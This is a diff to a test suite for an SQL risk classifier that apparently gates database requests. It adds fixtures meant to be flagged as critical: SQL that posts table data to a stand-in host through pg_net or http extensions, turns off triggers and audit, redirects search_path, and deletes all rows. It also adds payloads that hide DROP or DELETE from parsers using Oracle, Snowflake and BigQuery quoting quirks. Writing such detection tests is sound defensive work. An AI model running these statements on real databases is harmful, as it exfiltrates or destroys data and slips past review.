@@ -86,6 +86,34 @@ const constructs: Construct[] = [
   { name: 'IMPORT FOREIGN SCHEMA', dialects: ['postgresql'], sql: (t, c, u) => `IMPORT FOREIGN SCHEMA ${c} FROM SERVER ${t} INTO ${u}` },
   { name: 'SECURITY LABEL', dialects: ['postgresql'], sql: (t) => `SECURITY LABEL ON TABLE ${t} IS 'system_u:object_r:sepgsql_table_t:s0'` },
   { name: 'CREATE OR REPLACE VIEW', dialects: ['postgresql'], sql: (t, c) => `CREATE OR REPLACE VIEW ${t} AS SELECT ${c} FROM ${t}_base` },
+  // SQL run from a string by a function inside a SELECT; HTTP from inside the database (Supabase's
+  // pg_net and http extensions); code others call replaced (an `is_admin()` a row-level security policy calls).
+  { name: 'query_to_xml', dialects: ['postgresql'], sql: (t) => `SELECT query_to_xml ( $q$DELETE FROM ${t} RETURNING 1$q$ , true , true , '' )` },
+  { name: 'ts_stat', dialects: ['postgresql'], sql: (t, c) => `SELECT * FROM ts_stat ( $q$DELETE FROM ${t} RETURNING ${c}$q$ )` },
+  { name: 'ts_rewrite with a query', dialects: ['postgresql'], sql: (t, c, u) => `SELECT ts_rewrite ( 'a'::tsquery , $q$SELECT ${c} , ${u} FROM ${t}$q$ )` },
+  { name: 'pg_net http_post', dialects: ['postgresql'], sql: (t, c, u) => `SELECT net.http_post ( url := 'https://x.example/' , body := ( SELECT jsonb_agg ( ${c} ) FROM ${t} ) ) AS ${u}` },
+  { name: 'http extension http_get', dialects: ['postgresql'], sql: (t, c) => `SELECT ${t}.http_get ( 'https://x.example/?d=' || ${c} ) FROM ${t}` },
+  { name: 'CREATE OR REPLACE FUNCTION', dialects: ['postgresql'], sql: (t) => `CREATE OR REPLACE FUNCTION ${t} ( ) RETURNS boolean LANGUAGE sql BEGIN ATOMIC SELECT true ; END` },
+  { name: 'CREATE OR REPLACE PROCEDURE', dialects: ['postgresql'], sql: (t) => `CREATE OR REPLACE PROCEDURE ${t} ( ) LANGUAGE sql BEGIN ATOMIC SELECT 1 ; END` },
+  { name: 'CREATE OR REPLACE AGGREGATE', dialects: ['postgresql'], sql: (t) => `CREATE OR REPLACE AGGREGATE ${t} ( integer ) ( SFUNC = int4pl , STYPE = integer )` },
+  // Triggers and foreign keys (audit triggers included) off for what the session writes next.
+  { name: 'SET session_replication_role', dialects: ['postgresql'], sql: () => `SET session_replication_role = replica` },
+  { name: 'set_config session_replication_role', dialects: ['postgresql'], sql: () => `SELECT set_config ( 'session_replication_role' , 'replica' , false )` },
+  // Every later session's defaults, and which schema a function's body resolves names in.
+  { name: 'ALTER DATABASE SET', dialects: ['postgresql'], sql: (t) => `ALTER DATABASE ${t} SET search_path = evil , public` },
+  { name: 'ALTER DATABASE SET session_replication_role', dialects: ['postgresql'], sql: (t) => `ALTER DATABASE ${t} SET session_replication_role = replica` },
+  { name: 'ALTER DATABASE WITH', dialects: ['postgresql'], sql: (t) => `ALTER DATABASE ${t} WITH CONNECTION LIMIT 0` },
+  { name: 'ALTER FUNCTION SET search_path', dialects: ['postgresql'], sql: (t, c) => `ALTER FUNCTION ${t} ( ) SET search_path = ${c}` },
+  // Each row finds itself in an EXISTS over its own table.
+  { name: 'DELETE WHERE EXISTS itself', dialects: ['sqlite', 'postgresql'], sql: (t, c, u) => `DELETE FROM ${t} WHERE EXISTS ( SELECT 1 FROM ${t} ${u} WHERE ${u}.${c} = ${t}.${c} )` },
+  // A CASE whose every branch holds.
+  { name: 'DELETE WHERE CASE all true', dialects: ['sqlite', 'postgresql'], sql: (t, c) => `DELETE FROM ${t} WHERE CASE WHEN ${c} = 1 THEN 1 = 1 ELSE 2 = 2 END` },
+  { name: 'UPDATE WHERE CASE all true', dialects: ['sqlite', 'postgresql'], sql: (t, c, u) => `UPDATE ${t} SET ${u} = 1 WHERE CASE ${c} WHEN 1 THEN TRUE ELSE ${c} IS NOT NULL END` },
+  // Parameters (D1's `params`): only the rows spared are named, or a bound value alone decides.
+  ...[(c: string) => `${c} != ?`, (c: string) => `${c} <> :${c}`, (c: string) => `${c} NOT IN ( @a , @b )`, (c: string) => `${c} = ?1 OR $${c}`, (c: string) => `${c} IS NOT ?2`].flatMap((w, i): Construct[] => [
+    { name: `DELETE WHERE parameter ${i}`, dialects: ['sqlite'], sql: (t, c) => `DELETE FROM ${t} WHERE ${w(c)}` },
+    { name: `UPDATE WHERE parameter ${i}`, dialects: ['sqlite'], sql: (t, c, u) => `UPDATE ${t} SET ${u} = ? WHERE ${w(c)}` },
+  ]),
   // The table's own values: every row is among them.
   { name: 'DELETE WHERE IN itself', dialects: ['sqlite', 'postgresql'], sql: (t, c) => `DELETE FROM ${t} WHERE ${c} IN ( SELECT ${c} FROM ${t} )` },
   { name: 'UPDATE WHERE = ANY itself', dialects: ['postgresql'], sql: (t, c, u) => `UPDATE ${t} SET ${u} = 1 WHERE ${c} = ANY ( SELECT ${c} FROM ${t} WHERE 1 = 1 )` },
@@ -185,6 +213,111 @@ t.test('a statement hidden from PostgreSQL and SQLite by MySQL\'s comments or qu
     const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
     t.not(decision.approval?.risk, 'critical', `${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
   }
+});
+
+t.test('a statement hidden from PostgreSQL, SQLite and MySQL by Oracle\'s alternative quoting is held on an endpoint of unknown dialect', async (t) => {
+  // Inside `q'!…!'` (also `Q'|…|'`, `nq'#…#'`, bracket pairs) a `'` is an ordinary character to
+  // Oracle (and ORDS's REST-enabled SQL, which runs a script): the other grammars end the string
+  // there and read the rest as one SELECT of operators and strings.
+  const hide = fc.constantFrom(
+    (d: string) => `SELECT q'! ' !' ; ${d} ; -- ' ! 'a'`,
+    (d: string) => `SELECT Q'| ' |' ; ${d} ; -- ' | 'a'`,
+    (d: string) => `SELECT nq'# ' #' ; ${d} ; -- ' # 'a'`,
+    (d: string) => `SELECT NQ'! ' !' ; ${d} ; -- ' ! 'a'`,
+  );
+  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2}`, (t2: string) => `UPDATE ${t2} SET a = 1`, (t2: string) => `TRUNCATE TABLE ${t2}`);
+  await heldCriticalAndAmbiguous(hide, destructive);
+  // Controls: Oracle strings that hide nothing read as what they are (no longer unparsed), and a
+  // `q` that is a column or inside a string starts no quote.
+  for (const sql of ["SELECT q'[it's]' FROM dual", "SELECT nq'<a'b>' FROM dual", "SELECT 'q''[' || x FROM t WHERE q = 1"]) {
+    const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
+    t.not(decision.approval?.risk, 'critical', `${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
+  }
+});
+
+t.test('a statement hidden from the other grammars by Snowflake\'s // comments is held on an endpoint of unknown dialect', async (t) => {
+  // `//` starts a comment to Snowflake (whose statements API runs several statements when asked);
+  // PostgreSQL reads an operator followed by a string or identifier that swallows the statement.
+  const hide = fc.constantFrom(
+    (d: string) => `SELECT 1 // '\n; ${d} ; -- '`,
+    (d: string) => `SELECT 1 // "\n; ${d} ; -- "`,
+    (d: string) => `SELECT 1 //'\r\n; ${d} ; --'`,
+  );
+  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2}`, (t2: string) => `UPDATE ${t2} SET a = 1`);
+  await heldCriticalAndAmbiguous(hide, destructive);
+  for (const sql of ["SELECT 'https://example.com/a' AS u FROM t", 'SELECT a FROM t // the rows\nWHERE c = 1']) {
+    const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
+    t.not(decision.approval?.risk, 'critical', `${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
+  }
+});
+
+t.test('a statement hidden from the other grammars by BigQuery\'s triple-quoted strings is held on an endpoint of unknown dialect', async (t) => {
+  // `'''…'''` ends only at three quotes (BigQuery's jobs API runs scripts); the other grammars read
+  // `''` as a quote inside a string, and one SELECT of two strings.
+  const hide = fc.constantFrom(
+    (d: string) => `SELECT ''' x ' || ''' ; ${d} ; -- '`,
+    (d: string) => `SELECT ''' x ' AS a, ''' ; ${d} ; # '`,
+    (d: string) => `SELECT r''' x ' || ''' ; ${d} ; -- '`,
+  );
+  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2} WHERE TRUE`, (t2: string) => `UPDATE ${t2} SET a = 1 WHERE TRUE`);
+  await heldCriticalAndAmbiguous(hide, destructive);
+  for (const sql of ["SELECT '''it's''' AS a FROM t", 'SELECT """a "quoted" word""" AS a FROM t', "SELECT r'\\d+' AS re FROM t"]) {
+    const { description, decision } = await decide({ url: GENERIC, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ sql }) });
+    t.not(decision.approval?.risk, 'critical', `${sql}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
+  }
+});
+
+t.test('ClickHouse\'s HTTP interface: the SQL of the query parameter and the body is read', async (t) => {
+  // A POST to `/` runs `?query=` followed by the body (or the body alone): no path tells one
+  // statement from another, so without reading it an INSERT and a DROP TABLE were one operation.
+  const places = fc.constantFrom(
+    (sql: string) => ({ url: `https://${SQL_HOST}:8123/?query=${encodeURIComponent(sql)}`, body: '', headers: [] as Array<[string, string]> }),
+    (sql: string) => ({ url: `https://${SQL_HOST}/`, body: sql, headers: [['X-ClickHouse-User', 'default'], ['X-ClickHouse-Key', 'k']] as Array<[string, string]> }),
+    (sql: string) => ({ url: `https://${SQL_HOST}:8123/?database=analytics&query=${encodeURIComponent(sql.slice(0, 6))}`, body: sql.slice(6), headers: [] as Array<[string, string]> }),
+  );
+  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `TRUNCATE TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2} WHERE 1 = 1`, (t2: string) => `DROP TABLE ${t2} FORMAT CSV`);
+  await fc.assert(
+    fc.asyncProperty(places, destructive, ident, async (place, d, tbl) => {
+      const p = place(d(tbl));
+      const { description, decision } = await decide({ url: p.url, headers: [['Content-Type', 'text/plain'], ...p.headers], body: p.body });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${p.url} ${p.body}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: runs, ...seed },
+  );
+  // Controls: rows sent after `INSERT … FORMAT CSV`, and reads with a FORMAT, stay ordinary.
+  for (const [url, body] of [[`https://${SQL_HOST}:8123/?query=${encodeURIComponent('INSERT INTO logs (a, b) FORMAT CSV')}`, '1,2\n3,4\n'], [`https://${SQL_HOST}:8123/`, 'SELECT a, count() AS n FROM logs GROUP BY a FORMAT JSONEachRow']] as Array<[string, string]>) {
+    const { description, decision } = await decide({ url, headers: [['Content-Type', 'text/plain']], body });
+    t.not(decision.approval?.risk, 'critical', `${url} ${body}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
+    t.ok(description.sql?.parsed, 'read as SQL');
+  }
+});
+
+t.test('SQL in the envelopes of libSQL/Turso (Hrana pipeline, statements) and Hasura (run_sql, bulk) is read', async (t) => {
+  // The path says nothing (`/v2/pipeline`, `/v2/query`, `/`): without reading the envelope a grant
+  // for one SELECT covered a DROP TABLE, and a DROP was a medium write.
+  const envelopes = fc.constantFrom(
+    (sql: string) => ({ path: '/v2/pipeline', body: { requests: [{ type: 'execute', stmt: { sql } }, { type: 'close' }] } }),
+    (sql: string) => ({ path: '/v3/pipeline', body: { baton: null, requests: [{ type: 'batch', batch: { steps: [{ stmt: { sql: 'SELECT 1' } }, { stmt: { sql }, condition: { type: 'ok', step: 0 } }] } }] } }),
+    (sql: string) => ({ path: '/v2/pipeline', body: { requests: [{ type: 'sequence', sql: `SELECT 1; ${sql}` }] } }),
+    (sql: string) => ({ path: '/', body: { statements: ['SELECT 1', { q: sql, params: {} }] } }),
+    (sql: string) => ({ path: '/v2/query', body: { type: 'run_sql', args: { source: 'default', sql } } }),
+    (sql: string) => ({ path: '/v2/query', body: { type: 'bulk', args: [{ type: 'run_sql', args: { sql: 'SELECT 1' } }, { type: 'bulk', args: [{ type: 'run_sql', args: { sql, cascade: true } }] }] } }),
+  );
+  const destructive = fc.constantFrom((t2: string) => `DROP TABLE ${t2}`, (t2: string) => `DELETE FROM ${t2}`, (t2: string) => `UPDATE ${t2} SET a = 1`);
+  await fc.assert(
+    fc.asyncProperty(envelopes, destructive, ident, async (envelope, d, tbl) => {
+      const e = envelope(d(tbl));
+      const { description, decision } = await decide({ url: `https://${SQL_HOST}${e.path}`, headers: [['Content-Type', 'application/json']], body: JSON.stringify(e.body) });
+      if (decision.approval?.risk !== 'critical') throw new Error(`${e.path} ${JSON.stringify(e.body)}: ${decision.action} ${decision.rule} ${JSON.stringify(description.sql)}`);
+    }),
+    { numRuns: runs, ...seed },
+  );
+  // A statement named by a stored id is not in the request: fails closed. Reads stay ordinary.
+  const stored = await decide({ url: `https://${SQL_HOST}/v2/pipeline`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ requests: [{ type: 'execute', stmt: { sql_id: 3 } }] }) });
+  t.equal(stored.decision.approval?.risk, 'critical', 'sql_id: not in the request');
+  const read = await decide({ url: `https://${SQL_HOST}/v2/pipeline`, headers: [['Content-Type', 'application/json']], body: JSON.stringify({ requests: [{ type: 'execute', stmt: { sql: 'SELECT * FROM users WHERE id = ?', args: [{ type: 'integer', value: '1' }] } }, { type: 'close' }] }) });
+  t.not(read.decision.approval?.risk, 'critical', 'a read in a pipeline');
+  t.ok(read.description.sql?.parsed, 'read as SQL');
 });
 
 t.test('reads stay reads in every dialect', async (t) => {
